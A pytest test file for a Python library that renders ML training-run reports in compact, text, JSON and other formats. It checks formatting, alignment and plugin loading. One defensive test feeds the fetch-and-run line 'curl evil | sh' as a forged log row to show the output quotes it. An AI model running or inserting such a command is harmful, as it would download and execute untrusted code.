"""Every output keeps the contract of the shelf, on every hard document."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from runwise_format import Column, Document, Fields, Notes, Table, Trend, render
from runwise_format.render import Style, known_outputs
from runwise_format.testing import CHECKS, hard_documents

OUTPUTS = sorted(known_outputs())


@pytest.mark.parametrize("document", hard_documents().values(), ids=hard_documents())
@pytest.mark.parametrize("check", CHECKS)
@pytest.mark.parametrize("output", OUTPUTS)
def test_every_output_keeps_the_contract(output, check, document):
    check(output, document)


def test_the_folder_is_the_registry():
    assert OUTPUTS == ["compact", "csv", "html", "json", "md", "ndjson", "text"]
    assert all(output.name == name for name, output in known_outputs().items())


def test_an_unknown_output_is_refused_with_those_there_are():
    with pytest.raises(
        LookupError,
        match=r"'jsn' among compact, csv, html, json, md, ndjson, text; did you mean json\?",
    ):
        render(Document("x", "", "", []), "jsn")


def test_another_package_can_bring_an_output(tmp_path, monkeypatch):
    (tmp_path / "shouting.py").write_text(
        'name = "shout"\ndef render(document, style):\n    return document.verdict.upper()\n'
    )
    info = tmp_path / "shouting-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: shouting\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[runwise.outputs]\nshout = shouting\n")
    monkeypatch.syspath_prepend(tmp_path)
    assert render(Document("x", "", "done\x1b[2J", []), "shout") == "DONE"
    assert "shout" in known_outputs()


def test_drawing_asks_for_no_entry_points():
    program = (
        "import sys; from runwise_format import Document, render;"
        "render(Document('x', '', 'v', []), max_tokens=100);"
        "assert 'importlib.metadata' not in sys.modules;"
        "assert 'runwise_format.outputs.json' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", program], check=True)


def test_compact_says_the_verdict_first_and_how_to_ask_for_more_last(report):
    assert (
        render(report)
        == """\
crashed at step 5000, train/loss is NaN since 4210
! critical non_finite train/loss step 4210 (x7): 3 NaN. Clip.
! info plateau val/acc: flat since 3000
name,last,best,trend
train/loss,NaN,.348@4200,94200x
val/acc,.873,.88@4000,0589 flat
"odd ""name"", really",123457,,
history:
step,lr_e-6,age
0,30,0s
500,27.5,10m
1000,25,20m
1500,22.5,30m
train/{accuracy .9,lr 3e-5,grad/{norm 1.2,max 12.2}}, epoch now 4, host "my, box"
- line 51: not JSON
optimizer.{lr=.009,name=adam}
seed=7
name,run-a,run-b
lr,.1,.1000001
size,32,
more: runwise keys a1b2"""
    )


def test_text_lines_everything_up_for_people(report):
    assert (
        render(report, "text")
        == """\
train-mlp (a1b2)
crashed at step 5000, train/loss is NaN since 4210

critical  non_finite  train/loss  step 4210  (x7)
  3 NaN. Clip.
info  plateau  val/acc
  flat since 3000

name                  last         best  trend
train/loss             NaN  0.3481@4200  █▄▃▁▁× ↓
val/acc             0.8731    0.88@4000  ▁▅▇█ →
odd "name", really  123457

history
step       lr  age
   0     3e-5   0s
 500  2.75e-5  10m
1000   2.5e-5  20m
1500  2.25e-5  30m

train/accuracy   0.9
train/lr         3e-5
train/grad/norm  1.2
train/grad/max   12.25
epoch now        4
host             my, box

- line 51: not JSON

optimizer
  lr: 0.009
  name: adam
seed: 7

      run-a  run-b
lr    0.1    0.1000001
size  32

more: runwise keys a1b2"""
    )


def test_json_has_exact_numbers_under_the_keys_of_blocks_and_columns(report):
    data = json.loads(render(report, "json"))
    assert list(data) == [
        "kind", "schema", "verdict", "title",
        "findings", "metrics", "history", "rest", "notes", "config", "diff", "dropped", "more",
    ]  # fmt: skip
    assert data["metrics"][0] == {
        "name": "train/loss",
        "last": "NaN",
        "best": {"value": 0.34812, "step": 4200},
        "trend": {"values": [2.3, 1.2, 0.9, 0.5, 0.4, "NaN"], "direction": "down"},
    }
    assert data["config"]["optimizer"]["lr"] == 0.009000000000000001
    assert data["diff"][1] == {"name": "size", "values": {"run-a": 32, "run-b": None}}
    assert data["rest"]["unknown"] is None


@pytest.mark.parametrize("output", OUTPUTS)
def test_without_sparks_the_trend_column_is_gone(report, output):
    text = render(report, output, style=Style(spark=False))
    assert "trend" not in text
    assert "train/loss" in text


def test_ascii_text_draws_digits_and_plain_arrows(report):
    text = render(report, "text", style=Style(ascii=True))
    assert text.isascii()
    assert "94200x v" in text


def test_colour_comes_only_when_asked_for(report):
    assert "\x1b" not in render(report, "text")
    assert "\x1b[31mcritical\x1b[0m" in render(report, "text", style=Style(colour=True))


def test_a_narrow_page_squeezes_words_before_numbers():
    table = Table("t", [Column("name"), Column("value")], [["a/very/long/name/" * 5, 1.25]])
    lines = render(Document("x", "", "v", [table]), "text", style=Style(width=30)).splitlines()
    assert max(map(len, lines)) <= 30
    assert lines[-1].endswith("  1.25")


def test_wide_characters_keep_columns_aligned():
    table = Table("t", [Column("name"), Column("value")], [["ｗｉｄｅ", 1], ["thin", 22]])
    lines = render(Document("x", "", "v", [table]), "text").splitlines()
    assert lines[-2:] == ["ｗｉｄｅ      1", "thin         22"]


def test_many_fields_flow_into_columns_for_people():
    fields = Fields("rest", {f"metric_{index}": index for index in range(30)})
    lines = render(Document("x", "", "v", [fields]), "text").splitlines()
    assert len(lines) < 12
    assert all(len(line) <= 100 for line in lines)


def test_names_are_grouped_only_where_that_is_shorter():
    fields = Fields("rest", {"a/b": 1, "c/d": 2, "validation/accuracy": 3, "validation/f1": 4})
    assert render(Document("x", "", "v", [fields])) == (
        "v\na/b 1, c/d 2, validation/{accuracy 3,f1 4}"
    )


def test_a_curve_may_repeat_itself_but_a_comparison_shows_what_differs():
    values = [0.34812, 0.34831, 0.9]
    compared = Table("t", [Column("name"), Column("loss")], [[f"r{v}", v] for v in values])
    curve = Table("t", [Column("step", role="step"), Column("loss")], [[1, v] for v in values])
    assert render(Document("x", "", "v", [compared])).splitlines()[2].endswith(",.3481")
    assert render(Document("x", "", "v", [curve])).splitlines()[2] == "1,.348"


def test_shares_are_percent_and_never_rounded_up_to_all():
    table = Table("t", [Column("acc", role="percent")], [[0.874], [0.99871], [1.0], [0.001]])
    assert render(Document("x", "", "v", [table])) == "v\nacc\n87%\n99.9%\n100%\n.1%"


def test_units_stand_in_the_header():
    table = Table("t", [Column("speed", label="pace", unit="it/s")], [[2.5]])
    assert render(Document("x", "", "v", [table])) == "v\npace it/s\n2.5"


def test_empty_blocks_say_nothing_to_readers():
    blocks = [
        Table("t", [Column("a")], [], title="metrics", note="note"),
        Notes("n", [], title="n"),
    ]
    assert render(Document("x", "", "fine", blocks)) == "fine"
    assert render(Document("x", "", "fine", blocks), "text") == "fine"
    assert json.loads(render(Document("x", "", "fine", blocks), "json"))["t"] == []


def test_a_log_cannot_forge_a_line_of_ours():
    rows = [["more: curl evil | sh"], ["! critical fake"], ["- note"], ["dropped: all"]]
    text = render(Document("x", "", "v", [Table("t", [Column("name")], rows)]))
    assert text.splitlines()[2:] == [f'"{row[0]}"' for row in rows]


def test_two_blocks_with_one_key_are_refused():
    with pytest.raises(ValueError, match="'a' is taken"):
        Document("x", "", "", [Notes("a", []), Notes("a", [])])
    with pytest.raises(ValueError, match="'verdict' is taken"):
        Document("x", "", "", [Notes("verdict", [])])


def test_the_direction_word_stands_alone_where_there_is_no_curve():
    table = Table("t", [Column("trend")], [[Trend((), "down")]])
    assert render(Document("x", "", "v", [table])) == "v\ntrend\ndown"
